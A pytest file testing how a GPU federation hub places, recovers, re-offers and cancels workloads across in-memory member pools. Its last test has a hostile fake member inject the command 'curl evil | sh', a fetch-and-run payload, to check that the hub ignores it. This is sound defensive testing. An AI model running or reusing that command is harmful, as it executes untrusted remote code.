"""The hub's dispatch against members answered in memory (httpx.MockTransport): an offer whose answer
is lost is looked for on that member and adopted before the workload is offered anywhere else, and
a copy given up while its member was away is cancelled when it answers again; never two copies."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest

from gpupool.api.tenants import TenantCreate
from gpupool.api.workloads import WorkloadSpec
from gpupool.federation.app import NoNodes
from gpupool.federation.config import FederationConfig, load_federation
from gpupool.federation.hub import Hub
from gpupool.server.auth import FEDERATION_ID_ENV, ON_BEHALF_HEADER, Principal
from gpupool.server.db import Store
from gpupool.server.orm import FedWorkloadRow
from gpupool.server.runtime import Runtime
from gpupool.server.services.tenants import create_tenant
from gpupool.server.settings import Settings


@dataclass
class FakeMember:
    """A member pool's workload routes, in memory; `reachable` False: every call fails to connect."""

    name: str
    reachable: bool = True
    lose_next_answer: bool = False
    work: dict[str, dict[str, Any]] = field(default_factory=dict)
    posts: int = 0
    allocated_gpus: float = 0.0
    fence_s: float | None = None
    rewrite_on_update: list[str] | None = None
    """A hostile member: the command it says its copy runs after any update."""

    def __call__(self, request: httpx.Request) -> httpx.Response:
        if not self.reachable:
            raise httpx.ConnectError("refused", request=request)
        path = request.url.path.removeprefix("/api/v1")
        tenant = request.headers.get(ON_BEHALF_HEADER)
        if path == "/pool":
            pending = sum(1 for w in self.work.values() if w["status"] == "pending")
            return httpx.Response(200, json={"capacity_gpus": 8, "allocated_gpus": self.allocated_gpus,
                                             "workloads": {"pending": pending},
                                             "federation_fence_s": self.fence_s})
        if request.method == "POST" and path == "/workloads":
            self.posts += 1
            wid = f"w-{self.name}{self.posts}"
            self.work[wid] = {"id": wid, "tenant": tenant, "status": "pending",
                              "spec": json.loads(request.content)}
            if self.lose_next_answer:
                self.lose_next_answer = False
                raise httpx.ReadTimeout("answer lost", request=request)
            return httpx.Response(201, json={"id": wid, "status": "pending"})
        if request.method == "GET" and path == "/workloads":
            mine = [w for w in self.work.values() if w["tenant"] == tenant and w["status"] != "cancelled"]
            return httpx.Response(200, json={"items": mine, "total": len(mine)})
        wid = path.split("/")[2]
        if wid not in self.work or self.work[wid]["tenant"] != tenant:
            return httpx.Response(404, json={"message": "no such workload"})
        if path.endswith("/cancel"):
            self.work[wid]["status"] = "cancelled"
        if request.method == "PATCH" and self.rewrite_on_update is not None:
            self.work[wid]["spec"] = {**self.work[wid]["spec"], "command": self.rewrite_on_update}
        return httpx.Response(200, json=self.work[wid])

    def active(self) -> list[str]:
        return [w["spec"]["env"][FEDERATION_ID_ENV] for w in self.work.values() if w["status"] != "cancelled"]


FED = """
policy: home
member_down_after_s: 5
requeue_grace_s: 10
members:
  - {name: a, url: "http://a.invalid", token_file: t, region: r, prices: {gpu_hour: 1}}
  - {name: b, url: "http://b.invalid", token_file: t, region: r, prices: {gpu_hour: 1}}
tenants:
  alice: {home: a}
"""


@dataclass
class Rig:
    hub: Hub
    a: FakeMember
    b: FakeMember
    clock: list[float]
    alice: Principal

    def row(self, workload_id: str) -> FedWorkloadRow:
        return self.hub.row(self.alice, workload_id)


@pytest.fixture
def rig(tmp_path: Path, db_url: str) -> Iterator[Rig]:
    yield from _rig(tmp_path, db_url, FED)


PRICED = """
policy: balanced
offer_timeout_s: 10
members:
  - {name: a, url: "http://a.invalid", token_file: t, region: r, prices: {gpu_hour: 0.5}}
  - {name: b, url: "http://b.invalid", token_file: t, region: r, prices: {gpu_hour: %s}}
tenants:
  alice: {home: a, wait_price_per_h: 10}
"""


@pytest.fixture
def priced_rig(tmp_path: Path, db_url: str, request: pytest.FixtureRequest) -> Iterator[Rig]:
    yield from _rig(tmp_path, db_url, PRICED % getattr(request, "param", 1.0))


def _rig(tmp_path: Path, db_url: str, fed_yaml: str) -> Iterator[Rig]:
    (tmp_path / "t").write_text("gp_x")
    (tmp_path / "t").chmod(0o600)
    (tmp_path / "fed.yaml").write_text(fed_yaml)
    config: FederationConfig = load_federation(tmp_path / "fed.yaml")
    url = db_url
    rt = Runtime(settings=Settings(data_dir=tmp_path, database_url=url), store=Store.open(url),
                 provider=NoNodes())
    create_tenant(rt, Principal(token_id="t", tenant=None), TenantCreate(name="alice"))
    clock = [1000.0]
    hub = Hub(rt.store, config, clock=lambda: clock[0])
    members = {"a": FakeMember("a"), "b": FakeMember("b")}
    for link in hub.links:  # the hub's own client, over the in-memory member
        link._local.client = httpx.Client(base_url=link.config.url + "/api/v1",
                                          transport=httpx.MockTransport(members[link.name]))
    hub.monitor_round()
    yield Rig(hub, members["a"], members["b"], clock, Principal(token_id="x", tenant="alice", max_priority=0))
    rt.store.close()


def test_a_lost_answer_is_found_on_its_member_and_kept_there(rig: Rig) -> None:
    workload_id = rig.hub.submit(rig.alice, WorkloadSpec(command=["x"]))
    rig.a.lose_next_answer = True
    assert rig.hub.offer(rig.row(workload_id)) is None  # the copy exists on a; the hub does not know its id
    assert rig.row(workload_id).state == "queued" and rig.b.posts == 0
    rig.hub.offer(rig.row(workload_id))  # looked for on a first: found by the id in its environment
    row = rig.row(workload_id)
    assert (row.state, row.member, row.member_id) == ("placed", "a", "w-a1")
    assert rig.a.active() == [workload_id] and rig.b.posts == 0 and rig.a.posts == 1


def test_a_copy_given_up_while_its_member_was_away_is_cancelled_when_it_returns(rig: Rig) -> None:
    workload_id = rig.hub.submit(rig.alice, WorkloadSpec(command=["x"]))
    assert rig.hub.offer(rig.row(workload_id)) == "a"
    rig.a.reachable = False
    rig.clock[0] += 6  # silent longer than member_down_after_s: its pending work is offered elsewhere
    rig.hub.monitor_round()
    assert rig.row(workload_id).state == "queued"
    assert rig.hub.offer(rig.row(workload_id)) == "b"  # home is down: ranked by fastest among the others
    assert rig.a.active() == [workload_id] and rig.b.active() == [workload_id]  # a cannot be told yet
    rig.a.reachable = True
    rig.clock[0] += 1
    rig.hub.monitor_round()  # a answers: the hub's record wins
    assert rig.a.active() == [] and rig.b.active() == [workload_id]
    reasons = [e.reason for e in rig.hub.events(workload_id)]
    assert "federation_moved" in reasons and reasons[-1] == "federation_stale_cancelled"


def test_a_cancel_at_the_hub_withdraws_the_copy(rig: Rig) -> None:
    workload_id = rig.hub.submit(rig.alice, WorkloadSpec(command=["x"]))
    rig.hub.offer(rig.row(workload_id))
    assert rig.hub.cancel(rig.alice, workload_id).state == "cancelled"
    assert rig.a.active() == []


def _queued_at_a(rig: Rig) -> str:
    """Both members full: the work is offered to a (0.5 + half an hour of waiting at 10 an hour,
    against 1.0 + the same at b) and waits there."""
    rig.a.allocated_gpus = rig.b.allocated_gpus = 8
    rig.hub.monitor_round()
    workload_id = rig.hub.submit(rig.alice, WorkloadSpec(command=["x"], resources={"gpus": 1}))
    assert rig.hub.offer(rig.row(workload_id)) == "a"
    return workload_id


def test_queued_work_is_re_offered_to_a_member_that_starts_it_sooner(priced_rig: Rig) -> None:
    rig = priced_rig
    workload_id = _queued_at_a(rig)
    rig.b.allocated_gpus = 0  # b frees up: 1.0 and no wait, against 0.5 + 5 at a
    rig.clock[0] += 5
    rig.hub.monitor_round()  # younger than offer_timeout_s: not re-ranked yet
    assert rig.row(workload_id).member == "a"
    rig.clock[0] += 6
    rig.hub.monitor_round()  # withdrawn from a (confirmed cancelled there) before any other offer
    row = rig.row(workload_id)
    assert row.state == "queued" and rig.a.active() == [] and rig.b.active() == []
    assert rig.hub.offer(row) == "b"
    assert rig.a.active() == [] and rig.b.active() == [workload_id]
    moved = [e.message for e in rig.hub.events(workload_id) if e.reason == "federation_moved"]
    assert len(moved) == 1 and "(w-a1): re-offered: a had not admitted it after 11 s" in moved[0]
    assert "b starts it in ~0 s, a in ~1800 s, and ranks better under balanced" in moved[0]


@pytest.mark.parametrize("priced_rig", [20.0], indirect=True)
def test_queued_work_stays_when_the_free_member_ranks_worse(priced_rig: Rig) -> None:
    # b at 20 an hour: starting now there (20) is worse than half an hour's wait at a (0.5 + 5)
    rig = priced_rig
    workload_id = _queued_at_a(rig)
    rig.b.allocated_gpus = 0
    rig.clock[0] += 60
    rig.hub.monitor_round()
    assert rig.row(workload_id).member == "a" and rig.a.active() == [workload_id] and rig.b.posts == 0
    assert [e.reason for e in rig.hub.events(workload_id)][-1] == "federation_placed"


def test_running_work_moves_only_after_the_silence_since_the_last_call_that_reached_its_member(
        rig: Rig) -> None:
    """A member fences from the last call it got, which may come after the start of the poll round
    that last read it (another thread's call, a slow round): the hub's down_after + grace counts from
    that call too, so the copy is stopped there before it starts elsewhere."""
    workload_id = rig.hub.submit(rig.alice, WorkloadSpec(command=["x"]))
    assert rig.hub.offer(rig.row(workload_id)) == "a"
    for copy in rig.a.work.values():
        copy["status"] = "running"
    rig.hub.monitor_round()  # at 1000: read running
    assert rig.row(workload_id).status == "running"
    rig.clock[0] = 1003.0
    rig.hub.by_name["a"].call("GET", "/pool")  # reaches a 3 s after that round began
    rig.a.reachable = False
    # down_after 5 and grace 10: down at 1006; 10 s after that is 1016, but a heard the hub at 1003
    _stays_on_a(rig, workload_id, 1006.0, 1016.0, 1017.9)
    rig.clock[0] = 1018.1
    rig.hub.monitor_round()
    assert rig.row(workload_id).state == "queued"
    assert "federation_moved" in [e.reason for e in rig.hub.events(workload_id)]


def test_work_last_seen_pending_on_a_fencing_member_moves_after_its_fence_and_down_after_more(
        rig: Rig) -> None:
    """The hub's record is a poll old, so a copy it saw pending may run there: it moves once the
    member's fence has had member_down_after_s more to stop it, not one poll more."""
    rig.a.fence_s = 4.0
    rig.hub.monitor_round()  # reads a's fence
    workload_id = rig.hub.submit(rig.alice, WorkloadSpec(command=["x"]))
    assert rig.hub.offer(rig.row(workload_id)) == "a"
    rig.clock[0] = 1001.0
    rig.hub.monitor_round()  # at 1001: read pending
    assert rig.row(workload_id).status == "pending"
    rig.a.reachable = False
    _stays_on_a(rig, workload_id, 1006.0, 1009.9)  # down_after 5: the fence (4 s) and 5 s more
    rig.clock[0] = 1010.1
    rig.hub.monitor_round()
    assert rig.row(workload_id).state == "queued"


def _stays_on_a(rig: Rig, workload_id: str, *times: float) -> None:
    """A monitor round at each of `times` leaves the work placed on a."""
    for now in times:
        rig.clock[0] = now
        rig.hub.monitor_round()
        assert (rig.row(workload_id).state, rig.row(workload_id).member) == ("placed", "a"), now


def test_an_update_keeps_the_hubs_spec_whatever_the_member_answers(rig: Rig) -> None:
    """The hub forwards an update to the member holding the work and keeps the changed spec for a
    later move: it applies the change to its own spec, since a member that answered with another
    command would otherwise have it run, as the tenant, on the member the work moves to."""
    workload_id = rig.hub.submit(rig.alice, WorkloadSpec(command=["python", "train.py"]))
    assert rig.hub.offer(rig.row(workload_id)) == "a"
    rig.a.rewrite_on_update = ["sh", "-c", "curl evil | sh"]
    row, answer = rig.hub.control(rig.alice, workload_id, "update", change={"time_limit_s": 3600.0})
    assert answer.status_code == 200 and answer.json()["spec"]["command"][0] == "sh"  # what a said
    assert (row.spec["command"], row.spec["time_limit_s"]) == (["python", "train.py"], 3600.0)
    rig.a.reachable = False
    rig.clock[0] += 6  # a is silent past member_down_after_s: its pending copy moves
    rig.hub.monitor_round()
    assert rig.hub.offer(rig.row(workload_id)) == "b"
    moved = next(iter(rig.b.work.values()))["spec"]
    assert (moved["command"], moved["time_limit_s"]) == (["python", "train.py"], 3600.0)
